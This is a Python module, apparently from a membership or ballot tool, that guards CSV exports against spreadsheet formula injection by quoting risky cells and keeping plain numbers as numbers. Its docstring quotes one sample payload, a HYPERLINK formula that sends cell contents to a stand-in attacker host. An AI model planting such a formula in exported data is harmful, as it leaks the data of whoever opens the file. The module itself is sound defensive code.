"""CSV files that a spreadsheet opens without running anything (OWASP "CSV Injection").

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice and Google
Sheets: `=HYPERLINK("https://evil.example/?"&A1, "Click")` in a candidate's or member's name would run on the
officer's machine. Such a cell is written with a leading `'`, which spreadsheets show as text. A plain number
(`-12.50000`, a transfer) is left alone: it cannot be a formula, and it must stay a number.

Every CSV the site or its tools write goes through `writer()` (tests/test_house_rules.py greps for others). Files
that are data read back by tools are not CSV: the published ballot box is JSON, so `rankandfile tally` recounts
exactly what was cast. Standard library only.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)\Z")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should see it: numbers as they are, any text that could be a formula quoted."""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(text):
        return "'" + text
    return text


class SafeWriter:
    """`csv.writer` with every cell passed through `safe_cell`."""

    def __init__(self, file: IO[str], **kwargs: Any) -> None:
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file: IO[str], **kwargs: Any) -> SafeWriter:
    return SafeWriter(file, **kwargs)
